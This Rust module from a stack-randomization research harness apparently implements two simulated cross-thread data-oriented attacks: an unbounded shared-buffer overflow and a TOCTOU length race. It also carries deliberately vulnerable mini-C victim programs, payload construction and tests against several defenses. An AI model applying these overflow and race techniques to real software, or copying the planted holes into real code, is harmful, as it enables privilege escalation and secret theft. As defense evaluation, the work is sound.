//! Cross-thread DOP attacks against the concurrency subsystem.
//!
//! Both attacks corrupt a *sibling thread's* frame: the adversary's
//! bytes are written by one thread into stack slots owned by another.
//! That is exactly the surface per-thread Smokestack layouts defend —
//! every spawn draws its own P-BOX epoch, and the victim thread's frame
//! was drawn by *its* invocation, so nothing the attacker-controlled
//! thread observes locally discloses the victim's permutation.
//!
//! * [`SharedOverflowAttack`] (`xthread-shared-overflow`): the victim
//!   hands a worker a pointer into its own frame (a shared scratch
//!   buffer) and blocks in `join`; the worker copies attacker bytes
//!   through that pointer with no bound, sweeping upward through the
//!   victim's frame to flip its `is_admin` slot.
//! * [`ToctouRaceAttack`] (`xthread-toctou-race`): the victim validates
//!   a shared length (`glen <= 64`), then uses it after a compute
//!   window much wider than a scheduler quantum; a racer thread rewrites
//!   the length between check and use (a classic TOCTOU), turning a
//!   checked copy into the same frame-sweeping overflow.
//!
//! Defenses: static layouts (baseline, stack-base ASLR, entry padding)
//! are derandomized with one disclosure probe of a prior run — the
//! sweep starts at a program-provided pointer, so only the *relative*
//! offset `is_admin - buf` is needed. Under Smokestack the victim's
//! frame is re-permuted per invocation (per-thread epochs), so the
//! attacker is reduced to guessing a P-BOX row; the zero-filled sweep
//! crosses the guard slot with high probability and is caught at the
//! victim's epilogue before the corrupted verdict is consumed. The
//! pseudo-scheme disclosure oracle is not modeled for cross-thread
//! writes (the worker cannot line up the victim's draw order), so all
//! Smokestack schemes face the same blind guess here.

use smokestack_vm::{FnInput, Memory};

use crate::intel::Knowledge;
use crate::{conclude, Attack, AttackOutcome, Build, CommitFlag};

/// The secret `xthread-shared-overflow` exfiltrates.
pub const OVERFLOW_SECRET: &str = "XS-2718281828459045-SECRET";

/// The secret `xthread-toctou-race` exfiltrates.
pub const TOCTOU_SECRET: &str = "XT-1414213562373095-SECRET";

/// Shared-buffer overflow victim: `session` lends a worker a pointer to
/// its 64-byte scratch buffer and blocks in `join`; `fill` copies the
/// whole attacker packet through it unbounded.
pub const OVERFLOW_SOURCE: &str = r#"
    char private_key[32] = "XS-2718281828459045-SECRET";

    int fill(long dst) {
        char pkt[512];
        long n = 0;
        long i = 0;
        char *d = dst;
        n = get_input(pkt, 511);
        for (i = 0; i < n; i++) {
            d[i] = pkt[i];
        }
        return 0;
    }

    long session(long tag) {
        long is_admin = 0;
        long stamp = 0;
        char buf[64];
        long t = 0;
        long nonce0 = 0;
        long nonce1 = 0;
        t = spawn(fill, &buf);
        join(t);
        if (is_admin == 485556442) {
            if (stamp == 381831181) {
                return 777;
            }
        }
        return 0;
    }

    int main() {
        if (session(4242) == 777) {
            print_str(private_key);
        }
        return 0;
    }
"#;

/// TOCTOU victim: `handle` validates the shared length `glen` while it
/// is still benign, spawns the racer, burns a compute window far wider
/// than a scheduler quantum, then re-reads `glen` as the copy bound.
pub const TOCTOU_SOURCE: &str = r#"
    char private_key[32] = "XT-1414213562373095-SECRET";
    long glen = 8;

    int racer(long bump) {
        glen = bump;
        return 0;
    }

    long handle(long tag) {
        long is_admin = 0;
        long stamp = 0;
        char buf[64];
        char pkt[600];
        long n = 0;
        long i = 0;
        long waste = 0;
        long t = 0;
        n = get_input(pkt, 599);
        if (glen <= 64) {
            t = spawn(racer, n);
            for (i = 0; i < 160; i++) {
                waste = waste + i;
            }
            for (i = 0; i < glen; i++) {
                buf[i] = pkt[i];
            }
            join(t);
        }
        if (is_admin == 485556442) {
            if (stamp == 381831181) {
                return 777;
            }
        }
        return 0;
    }

    int main() {
        if (handle(4243) == 777) {
            print_str(private_key);
        }
        return 0;
    }
"#;

/// The exact token pair the victim's double gate compares against —
/// the corrupting write must land both full 8-byte values at their
/// precise slot offsets, so a blind guess has to get the victim's whole
/// permutation row right, not just one (frequently colliding) distance.
const ADMIN_MAGIC: u64 = 485556442;
const STAMP_MAGIC: u64 = 381831181;

/// The attacker's required knowledge: the signed in-frame distances of
/// `is_admin` and `stamp` above `buf` in the victim function. Static
/// layouts yield them from one disclosure probe of a prior run;
/// Smokestack layouts force a blind P-BOX row guess, under `pseudo` too
/// (the worker cannot line up the victim's draw order). Returns `None`
/// (a stealthy abort) when the known or guessed layout puts either
/// target below the buffer or past the packet's reach.
fn victim_deltas(
    build: &Build,
    run_seed: u64,
    func: &str,
    salt: u64,
    max_delta: i64,
) -> Option<(i64, i64)> {
    let mut knowledge = Knowledge::pbox(build, run_seed, salt, false)
        .unwrap_or_else(|| Knowledge::probed(build, run_seed ^ salt, &[vec![]]));
    let d = knowledge.deltas(
        None,
        0,
        (func, "buf"),
        &[(func, "is_admin"), (func, "stamp")],
    )?;
    let (d_admin, d_stamp) = (d[0], d[1]);
    // The buffer is 64 bytes, so any consistent layout puts both
    // targets at least 64 above it, in disjoint 8-byte slots.
    let plausible = (64..=max_delta).contains(&d_admin)
        && (64..=max_delta).contains(&d_stamp)
        && (d_admin - d_stamp).abs() >= 8;
    plausible.then_some((d_admin, d_stamp))
}

/// Zero-filled sweep payload: zeros kill the guard/canary words they
/// cross (rather than accidentally making every crossed slot truthy),
/// with [`ADMIN_MAGIC`] and [`STAMP_MAGIC`] landed at the guessed
/// target offsets.
fn sweep_payload(d_admin: i64, d_stamp: i64) -> Vec<u8> {
    let mut p = vec![0u8; d_admin.max(d_stamp) as usize + 8];
    p[d_admin as usize..d_admin as usize + 8].copy_from_slice(&ADMIN_MAGIC.to_le_bytes());
    p[d_stamp as usize..d_stamp as usize + 8].copy_from_slice(&STAMP_MAGIC.to_le_bytes());
    p
}

/// Run one attempt: deliver `payload` at the program's single input
/// point, with the trial seed also varying the thread interleaving.
fn deliver(build: &Build, run_seed: u64, payload: Vec<u8>, secret: &str) -> AttackOutcome {
    let committed = CommitFlag::new();
    let mut vm = build.vm(run_seed);
    vm.set_sched_seed(run_seed ^ 0x51ed);
    let adversary = FnInput(|_mem: &mut Memory, req, _max| {
        if req == 0 {
            committed.arm();
            return payload.clone();
        }
        vec![]
    });
    let out = vm.run_main(adversary);
    let goal = out.output_text().contains(secret);
    conclude(
        &out,
        &committed,
        goal,
        "sibling thread's admin verdict flipped",
    )
    .into_outcome()
}

/// The cross-thread shared-buffer overflow.
pub struct SharedOverflowAttack;

impl Attack for SharedOverflowAttack {
    fn name(&self) -> &str {
        "xthread-shared-overflow"
    }

    fn source(&self) -> &str {
        OVERFLOW_SOURCE
    }

    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
        // fill's packet buffer caps the sweep at 511 bytes.
        let Some((da, ds)) = victim_deltas(build, run_seed, "session", 0x7a31, 503) else {
            return AttackOutcome::Aborted;
        };
        deliver(build, run_seed, sweep_payload(da, ds), OVERFLOW_SECRET)
    }
}

/// The cross-thread TOCTOU length race.
pub struct ToctouRaceAttack;

impl Attack for ToctouRaceAttack {
    fn name(&self) -> &str {
        "xthread-toctou-race"
    }

    fn source(&self) -> &str {
        TOCTOU_SOURCE
    }

    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
        // handle's packet buffer caps the sweep at 599 bytes.
        let Some((da, ds)) = victim_deltas(build, run_seed, "handle", 0x7a32, 591) else {
            return AttackOutcome::Aborted;
        };
        deliver(build, run_seed, sweep_payload(da, ds), TOCTOU_SECRET)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::seeded_trial;
    use smokestack_defenses::DefenseKind;
    use smokestack_minic::compile;
    use smokestack_srng::SchemeKind;
    use smokestack_vm::{ExecBackend, Executor, Exit, FaultKind, ScriptedInput};

    #[test]
    fn benign_runs_leak_nothing() {
        for (src, secret) in [
            (OVERFLOW_SOURCE, OVERFLOW_SECRET),
            (TOCTOU_SOURCE, TOCTOU_SECRET),
        ] {
            let build = Build::new(src, DefenseKind::None, 1);
            let mut vm = build.vm(7);
            let out = vm.run_main(ScriptedInput::new(vec![vec![]]));
            assert!(out.exit.is_clean(), "{:?}", out.exit);
            assert!(!out.output_text().contains(secret));
        }
    }

    #[test]
    fn overflow_bypasses_stack_base_and_entry_padding() {
        // The `matrix` plan checks the baseline and Smokestack rows;
        // these two prior schemes, whose trials are too slow for a
        // debug-build plan, are checked here.
        for (defense, seed) in [
            (DefenseKind::StackBase, 20),
            (DefenseKind::EntryPadding, 21),
        ] {
            for t in 0..2 {
                let out = seeded_trial(&SharedOverflowAttack, defense, seed, t);
                assert!(out.is_success(), "{defense}: {out}");
            }
        }
    }

    #[test]
    fn overflow_detected_by_smokestack_guard() {
        // The `matrix` plan caps the success rate; the guard slot is
        // what catches the cross-thread write.
        let detected = (0..6)
            .filter(|&t| {
                matches!(
                    seeded_trial(
                        &SharedOverflowAttack,
                        DefenseKind::Smokestack(SchemeKind::Aes10),
                        30,
                        t,
                    ),
                    AttackOutcome::Detected(_)
                )
            })
            .count();
        assert!(detected > 0, "guard never fired in 6 campaigns");
    }

    #[test]
    fn toctou_mechanism_is_a_data_race() {
        // The race detector flags exactly the mechanism the TOCTOU
        // attack exploits: the racer's unsynchronized store to `glen`
        // against the victim's re-read — even on a benign input.
        let exec = Executor::for_module(compile(TOCTOU_SOURCE).unwrap())
            .backend(ExecBackend::Bytecode)
            .sched_seed(3)
            .detect_races(true)
            .build();
        let out = exec.run_main(ScriptedInput::new(vec![vec![9, 9, 9]]));
        assert!(
            matches!(out.exit, Exit::Fault(FaultKind::DataRace { .. })),
            "TOCTOU store/load must race, got {:?}",
            out.exit
        );
    }
}
